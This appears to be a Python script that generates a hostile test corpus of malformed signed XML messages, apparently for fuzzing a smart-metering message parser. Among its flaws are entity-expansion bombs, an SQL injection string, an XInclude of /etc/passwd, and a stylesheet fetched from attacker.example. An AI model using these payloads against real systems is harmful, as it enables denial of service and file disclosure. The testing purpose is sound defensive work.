    flaw("entity/quadratic.xml", doctype(f' [<!ENTITY q "{"q" * 50000}">]') + good.replace(">ADE<", f">{'&q;' * 1000}<"), "one long entity, said a thousand times")
    flaw("entity/recursive.xml", doctype(' [<!ENTITY a "&b;"><!ENTITY b "&a;">]') + good.replace(">ADE<", ">&a;<"), "an entity that contains itself")
    flaw("entity/attribute-default.xml", doctype(' [<!ATTLIST sr:Body Id ID "b">]') + good, "an attribute by default")
    flaw("entity/undeclared.xml", good.replace(">ADE<", ">&v;<"), "an entity that is declared nowhere")
    flaw("entity/html.xml", good.replace(">ADE<", ">&nbsp;ADE<"), "an entity of HTML")
    flaw("entity/doctype-in-comment-end.xml", "<!-- a --><!DOCTYPE a []>" + good, "a document type declaration behind a comment")
    flaw("entity/doctype-after-root.xml", good + "<!DOCTYPE a []>", "a document type declaration after the root")
    flaw("entity/doctype-inside.xml", good.replace("<sr:Body>", "<sr:Body><!DOCTYPE a []>"), "a document type declaration inside the root")


def encodings(supplier):
    text = message(address("1 Sample Street é"), variant="8.2")
    good = sign(text, supplier)
    ascii_good = sign(message(), supplier)
    flaw("encoding/utf-16-le-bom.xml", b"\xff\xfe" + declared(good, "UTF-16").encode("utf-16-le"), "UTF-16, little end first, with a byte order mark")
    flaw("encoding/utf-16-be-bom.xml", b"\xfe\xff" + declared(good, "UTF-16").encode("utf-16-be"), "UTF-16, big end first, with a byte order mark")
    flaw("encoding/utf-16-le.xml", declared(good, "UTF-16LE").encode("utf-16-le"), "UTF-16 without a byte order mark")
    flaw("encoding/utf-16-be.xml", declared(good, "UTF-16BE").encode("utf-16-be"), "UTF-16 without a byte order mark, big end first")
    flaw("encoding/utf-32.xml", good.encode("utf-32"), "UTF-32")
    flaw("encoding/utf-7.xml", declared(good, "UTF-7").encode("utf-7"), "UTF-7, and it says so")
    hidden = ascii_good.replace("<sr:Body>", "+ADw-sr:Body+AD4-")
    flaw("encoding/utf-7-hidden.xml", declared(hidden, "UTF-7"), "markup hidden in UTF-7")
    flaw("encoding/latin-1.xml", declared(good, "ISO-8859-1").encode("latin-1"), "Latin-1, and it says so")
    flaw("encoding/latin-1-undeclared.xml", good.encode("latin-1"), "Latin-1 that does not say so")
    flaw("encoding/latin-1-declared-ascii.xml", declared(ascii_good, "ISO-8859-1"), "ASCII that says it is Latin-1")
    flaw("encoding/utf-8-says-utf-16.xml", declared(ascii_good, "UTF-16"), "UTF-8 that says it is UTF-16")
    flaw("encoding/ebcdic.xml", declared(ascii_good, "cp037").encode("cp037"), "EBCDIC")
    flaw("encoding/utf8-misspelt.xml", declared(ascii_good, "UTF8"), "an encoding that has no name")
    flaw("encoding/empty.xml", declared(ascii_good, ""), "an empty encoding")
    flaw("encoding/overlong-slash.xml", ascii_good.encode().replace(b"</sr:Body>", b"<\xc0\xafsr:Body>"), "an overlong `/`")
    flaw("encoding/overlong-less-than.xml", ascii_good.encode().replace(b"<sr:Body>", b"\xe0\x80\xbcsr:Body>"), "an overlong `<`")
    flaw("encoding/overlong-nul.xml", ascii_good.encode().replace(b">ADE<", b">ADE\xc0\x80<"), "an overlong NUL")
    flaw("encoding/surrogates.xml", ascii_good.encode().replace(b">ADE<", b">\xed\xa0\xbd\xed\xb8\x80<"), "surrogates in UTF-8")
    flaw("encoding/too-great.xml", ascii_good.encode().replace(b">ADE<", b">\xf4\x90\x80\x80<"), "a character beyond U+10FFFF")
    flaw("encoding/cut-character.xml", good.encode().replace("é".encode(), b"\xc3"), "half a character")
    flaw("encoding/bom-twice.xml", "\ufeff\ufeff" + ascii_good, "two byte order marks")
    flaw("encoding/bom-after-declaration.xml", declared("\ufeff" + ascii_good), "a byte order mark after the declaration")
    bom_inside = message(change("\ufeffADE"))
    flaw("encoding/bom-inside.xml", sign(bom_inside, supplier), "a byte order mark inside a value")
    flaw("encoding/version-1.1.xml", ascii_good.join(['<?xml version="1.1"?>', ""]), "XML 1.1")
    flaw("encoding/version-2.0.xml", ascii_good.join(['<?xml version="2.0"?>', ""]), "XML 2.0")
    flaw("encoding/declaration-late.xml", "\n" + declared(ascii_good), "a line before the declaration")
    flaw("encoding/declaration-twice.xml", declared(declared(ascii_good)), "the declaration twice")
    flaw("encoding/declaration-inside.xml", ascii_good.replace("<sr:Body>", '<sr:Body><?xml version="1.0"?>'), "a declaration inside the root")


def characters(supplier):
    good = sign(message(), supplier)
    put = lambda inside: good.replace(">ADE<", f">{inside}<")
    flaw("character/nul.xml", put("ADE\0"), "NUL in a value")
    flaw("character/nul-at-end.xml", good + "\0", "NUL after the root")
    flaw("character/nul-then-more.xml", good + "\0" + good, "NUL after the root, and another message behind it")
    flaw("character/control.xml", put("ADE\x01"), "a control character in a value")
    flaw("character/escape.xml", put("\x1b[2J"), "a terminal's escape in a value")
    flaw("character/delete-c1.xml", sign(message(change("ADE\x7f\x85")), supplier), "DEL and NEL, which XML allows, in a value")
    flaw("character/non-character.xml", put("\ufffe"), "U+FFFE in a value")
    for name, text in [("nul", "&#0;"), ("control", "&#1;"), ("surrogate", "&#xD800;"), ("non-character", "&#xFFFF;"),
                       ("too-great", "&#x110000;"), ("overflow", "&#4294967361;"), ("overflow-64", "&#18446744073709551681;"),
                       ("empty", "&#;"), ("empty-hex", "&#x;"), ("upper-case-x", "&#X41;"), ("signed", "&#+65;"), ("negative", "&#-1;"),
                       ("space", "&# 65;"), ("no-semicolon", "&#65"), ("fraction", "&#65.0;"), ("surrogate-pair", "&#xD83D;&#xDE00;")]:
        flaw(f"character/reference-{name}.xml", put(text + "DE"), f"the character reference `{text}`")
    flaw("character/right-to-left.xml", sign(message(change("\u202eEDA")), supplier), "a value written from right to left")
    flaw("character/full-width.xml", sign(message(change("ＡＤＥ")), supplier), "full-width letters in an enumeration")
    flaw("character/homoglyph.xml", sign(message(change("АDE")), supplier), "a Cyrillic letter in an enumeration")
    flaw("character/zero-width.xml", sign(message(change("A\u200bDE")), supplier), "a zero-width space in an enumeration")
    flaw("character/combining.xml", sign(message(address("1 Sample Street\u0301"), variant="8.2"), supplier), "a combining accent after an address")


def values(supplier):
    whole_or_not = [
        ("comment", "1 Sample Street<!-- --> X"), ("comment-first", "<!-- X -->1 Sample Street X"),
        ("cdata", "1 Sample Street<![CDATA[ X]]>"), ("cdata-empty", "1 Sample Street<![CDATA[]]> X"),
        ("instruction", "1 Sample Street<?p?> X"), ("reference", "1 Sample Street&#32;X"),
    ]
    for name, text in whole_or_not:
        flaw(f"value/split-by-{name}.xml", sign(message(address(text), variant="8.2"), supplier),
             "an address that is another's up to the split: read whole, it is nobody's")
    request_id = lambda text: sign(message(request_id=text), supplier)
    split = f"{SUPPLIER[:12]}<!-- {SUPPLIER[12:]} -->{OTHER[12:]}:{DCC}:77"
    flaw("value/originator-split-by-comment.xml", request_id(split), "an originator that is the signer only where a comment's text is read")
    flaw("value/device-split-by-element.xml", sign(message(change("ADE", "00-DB-12-34-56-78-90-<sr:x/>A2")), supplier), "an element inside a value")
    flaw("value/enumeration-space.xml", sign(message(change(" ADE")), supplier), "a space before an enumeration")
    flaw("value/enumeration-newline.xml", sign(message(change("ADE\n")), supplier), "a line feed after an enumeration")
    flaw("value/enumeration-carriage-return.xml", sign(message(change("ADE&#13;")), supplier), "a carriage return after an enumeration")
    flaw("value/enumeration-no-break-space.xml", sign(message(change("ADE\u00a0")), supplier), "a no-break space after an enumeration")
    flaw("value/enumeration-lower-case.xml", sign(message(change("ade")), supplier), "an enumeration in small letters")
    flaw("value/enumeration-empty.xml", sign(message(change("")), supplier), "an empty enumeration")
    flaw("value/injection-sql.xml", sign(message(address("' OR '1'='1"), variant="8.2"), supplier), "SQL in an address")
    flaw("value/injection-like.xml", sign(message(address("%"), variant="8.2"), supplier), "a wildcard in an address")
    flaw("value/injection-markup.xml", sign(message(change("&lt;/sr:ESMEVariant>")), supplier), "markup in a value")
    flaw("value/injection-log.xml", sign(message(change("A&#10;level=INFO decided code=I99")), supplier), "a line of a log in a value")
    flaw("value/no-attribute-nil.xml",
         sign(message(change("ADE").replace("<sr:ESMEVariant>", '<sr:ESMEVariant xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true">')), supplier),
         "xsi:nil on a value that is there")
    flaw("value/type-other.xml",
         sign(message(change("ADE").replace("<sr:ESMEVariant>", '<sr:ESMEVariant xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="sr:DeviceType">')), supplier),
         "xsi:type names another type")
    flaw("value/xml-base.xml", sign(message(change("ADE").replace("<sr:UpdateInventory>", '<sr:UpdateInventory xml:base="http://attacker.example/">')), supplier), "xml:base")
    flaw("value/xml-id.xml", sign(message(change("ADE").replace("<sr:UpdateInventory>", '<sr:UpdateInventory xml:id="a">')), supplier), "xml:id")
    flaw("value/xml-space.xml", sign(message(change("ADE").replace("<sr:UpdateInventory>", '<sr:UpdateInventory xml:space="preserve">')), supplier), "xml:space")
    flaw("value/include.xml", sign(message(change("ADE").replace("<sr:ESMEVariant>ADE</sr:ESMEVariant>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')), supplier), "an XInclude of a file")
    flaw("value/stylesheet.xml", '<?xml-stylesheet type="text/xsl" href="http://attacker.example/a.xsl"?>' + sign(message(), supplier),
         "a stylesheet to be fetched, put in after signing")


def names(supplier):
    text = message()
    flaw("name/namespace-none.xml", sign(text.replace("sr:", "").replace(f' xmlns:sr="{DUIS}"', "").replace("xmlns:sr", "xmlns"), supplier,
         place=lambda t, s: t.replace("</Request>", s + "</Request>")), "no namespace")
    other = text.replace(DUIS, DUIS + "/")
    flaw("name/namespace-other.xml", sign(other, supplier), "another namespace by one character")
    flaw("name/namespace-case.xml", sign(text.replace(DUIS, DUIS.upper()), supplier), "the namespace in capitals")
    flaw("name/namespace-redeclared.xml", sign(text.replace("<sr:UpdateInventory>", '<sr:UpdateInventory xmlns:sr="urn:other">'), supplier), "the prefix bound again inside the Body")
    flaw("name/prefix-undeclared.xml", text.replace("sr:UpdateInventory>", "zz:UpdateInventory>"), "a prefix that is not declared")
    flaw("name/prefix-undeclared-empty.xml", text.replace("<sr:Body>", '<sr:Body xmlns:sr="">'), "a prefix undeclared, which XML 1.0 does not know")
    flaw("name/prefix-xml.xml", text.replace("<sr:Body>", '<sr:Body xmlns:xml="urn:other">'), "the prefix xml bound to something else")
    flaw("name/prefix-xmlns.xml", text.replace("<sr:Body>", '<sr:Body xmlns:xmlns="urn:other">'), "the prefix xmlns declared")
    flaw("name/xml-namespace-stolen.xml", text.replace("<sr:Body>", '<sr:Body xmlns:a="http://www.w3.org/XML/1998/namespace">'), "another prefix for the namespace of xml")
    flaw("name/two-colons.xml", text.replace("sr:Body>", "sr:sr:Body>"), "two colons in a name")
    flaw("name/empty-prefix.xml", text.replace("sr:Body>", ":Body>"), "a colon before a name")
    flaw("name/duplicate-attribute.xml", text.replace(" schemaVersion", ' schemaVersion="5.4" schemaVersion'), "an attribute twice")
    flaw("name/duplicate-attribute-by-namespace.xml", text.replace("<sr:Body>", '<sr:Body xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2">'), "an attribute twice under two prefixes")
    flaw("name/schema-version-of-namespace.xml", sign(text.replace(" schemaVersion", " sr:schemaVersion"), supplier), "schemaVersion in the namespace")
    flaw("name/other-root.xml", sign(text.replace("sr:Request ", "sr:Response ").replace("</sr:Request>", "</sr:Response>"), supplier,
         place=lambda t, s: t.replace("</sr:Response>", s + "</sr:Response>")), "a Response")
    flaw("name/signature-of-default-namespace.xml", sign(text, supplier).replace("ds:", "").replace("xmlns:ds", "xmlns"), "ds: made the default namespace by force")
    flaw("name/two-roots.xml", text + text, "two roots")
    flaw("name/trailing-text.xml", sign(text, supplier) + "x", "text after the root")
    flaw("name/trailing-element.xml", sign(text, supplier) + "<a/>", "an element after the root")
    flaw("name/leading-text.xml", "x" + sign(text, supplier), "text before the root")
    flaw("name/leading-reference.xml", "&#32;" + sign(text, supplier), "a reference before the root")
    flaw("name/leading-cdata.xml", "<![CDATA[ ]]>" + sign(text, supplier), "a CDATA section before the root")
    flaw("name/element-order.xml", sign(re.sub("(<sr:Header>.*</sr:Header>)(<sr:Body>.*</sr:Body>)", r"\2\1", text), supplier), "the Body before the Header")
    flaw("name/crossed.xml", text.replace("</sr:UpdateDeviceDetails></sr:UpdateInventory>", "</sr:UpdateInventory></sr:UpdateDeviceDetails>"), "end tags crossed")
    flaw("name/comment-open.xml", text.replace("<sr:Body>", "<sr:Body><!--"), "a comment without end")
    flaw("name/comment-double-hyphen.xml", text.replace("<sr:Body>", "<sr:Body><!-- a -- b -->"), "two hyphens in a comment")
    flaw("name/cdata-open.xml", text.replace("<sr:Body>", "<sr:Body><![CDATA["), "a CDATA section without end")
    flaw("name/instruction-open.xml", text.replace("<sr:Body>", "<sr:Body><?p "), "a processing instruction without end")


def request_ids(supplier, dcc, other):
    by = lambda text, signer=supplier: sign(message(request_id=text), signer)
    id_ = f"{SUPPLIER}:{DCC}"
    for name, text, says in [
        ("counter-too-great", f"{id_}:18446744073709551616", "a counter of 2^64"),
        ("counter-huge", f"{id_}:{'9' * 5000}", "a counter of 5,000 digits"),
        ("counter-negative", f"{id_}:-1", "a negative counter"),
        ("counter-plus", f"{id_}:+1", "a plus before the counter"),
        ("counter-zeros", f"{id_}:0001", "zeros before the counter"),
        ("counter-hex", f"{id_}:0x10", "a counter in hexadecimal"),
        ("counter-exponent", f"{id_}:1e3", "a counter with an exponent"),
        ("counter-fraction", f"{id_}:1.0", "a counter with a fraction"),
        ("counter-arabic", f"{id_}:١٢٣", "a counter in Arabic digits"),
        ("counter-empty", f"{id_}:", "no counter"),
        ("spaces-inside", f"{SUPPLIER} : {DCC} : 1", "spaces inside"),
        ("two-parts", id_, "two parts"),
        ("four-parts", f"{id_}:1:2", "four parts"),
        ("full-width-colon", f"{SUPPLIER}：{DCC}：1", "full-width colons"),
        ("homoglyph", f"{SUPPLIER.replace('B', 'В')}:{DCC}:1", "a Cyrillic letter in the originator"),
        ("originator-short", f"{SUPPLIER[:-3]}:{DCC}:1", "an originator of seven octets"),
        ("originator-no-hyphens", f"{SUPPLIER.replace('-', '')}:{DCC}:1", "an originator without hyphens"),
        ("originator-other", f"{OTHER}:{DCC}:31", "another User as originator"),
        ("originator-nobody", f"{NOBODY}:{DCC}:32", "nobody as originator"),
        ("originator-dcc", f"{DCC}:{DCC}:33", "the DCC as originator"),
        ("target-user", f"{SUPPLIER}:{SUPPLIER}:34", "the sender as target"),
        ("target-device", f"{SUPPLIER}:00-DB-12-34-56-78-90-A2:35", "the Device as target of a non-device request"),
    ]:
        flaw(f"request-id/{name}.xml", by(text), f"a RequestID with {says}")
    flaw("request-id/dcc-signs-as-itself.xml", by(f"{DCC}:{DCC}:36", dcc), "the DCC as originator, signed by the DCC")
    flaw("request-id/other-signs-as-itself.xml", by(f"{OTHER}:{DCC}:37", other), "a User that is not responsible, signed by itself")
    two = message().replace("</sr:RequestID>", f"</sr:RequestID><sr:RequestID>{id_}:38</sr:RequestID>")
    flaw("request-id/two.xml", sign(two, supplier), "two RequestIDs")


def main():
    for folder in ROOT.iterdir():
        if folder.is_dir():
            shutil.rmtree(folder)
    issuer = Issuer("HOSTILE-CORPUS-ROOT")
    supplier, other, dcc = issuer.issue(SUPPLIER), issuer.issue(OTHER), issuer.issue(DCC, role="89")
    wrapping(supplier)
    references(supplier)
    transforms(supplier)
    algorithms(supplier, issuer)
    tampered(supplier, other)
    known = {"supplier": supplier, "other-supplier": other, "dcc": dcc} | signers(supplier, other, dcc, issuer)
    entities(supplier)
    encodings(supplier)
    characters(supplier)
    values(supplier)
    names(supplier)
    request_ids(supplier, dcc, other)
    for name, signer in known.items():
        write(ROOT / "pki" / f"{name}.pem", signer.pem().encode())
    for name, (content, _) in files.items():
        write(ROOT / name, content)
    good(supplier, other)
    page()


def page():
    """Writes the table anew; what happened to a file of that name stays until the test says otherwise."""
    readme = ROOT / "README.md"
    before, _, table = readme.read_text().partition("| --- | --- | --- |\n")
    rows = [line.strip("| ").split(" | ") for line in table.splitlines() if line.startswith("|")]
    happened = {row[0].strip("`"): row[-1] for row in rows}
    made = {row[0].strip("`"): row[1] for row in rows if row[0].strip("`").startswith("made/")}
    says = {name: flaw[1] for name, flaw in files.items()} | made
    lines = [f"| `{name}` | {says[name]} | {happened.get(name, '?')} |\n" for name in sorted(says)]
    readme.write_text(f"{before}| --- | --- | --- |\n{''.join(lines)}")


def good(supplier, other):
    """What the fuzz target of the signature begins with, and the last word on whether the corpus is good apart from its flaws."""
    laid_out = message(change("ADE")).replace("><", ">\n  <")
    write(ROOT / "signed" / "8.4-change.xml", sign(message(), supplier).encode())
    write(ROOT / "signed" / "8.4-laid-out.xml", declared(sign(laid_out, supplier)).encode())
    commented = message(change("<!-- a -->ADE<!-- b -->"), root=' xmlns:unused="urn:unused"')
    write(ROOT / "signed" / "8.4-comments.xml", sign("<?keep this?>\n" + commented, supplier).encode())
    write(ROOT / "signed" / "8.2-address.xml", sign(message(address("1 Sample Street &amp; é <![CDATA[<x>]]>&#13;"), sender=OTHER, variant="8.2"), other).encode())


def write(path, octets):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(octets)


if __name__ == "__main__":
    main()
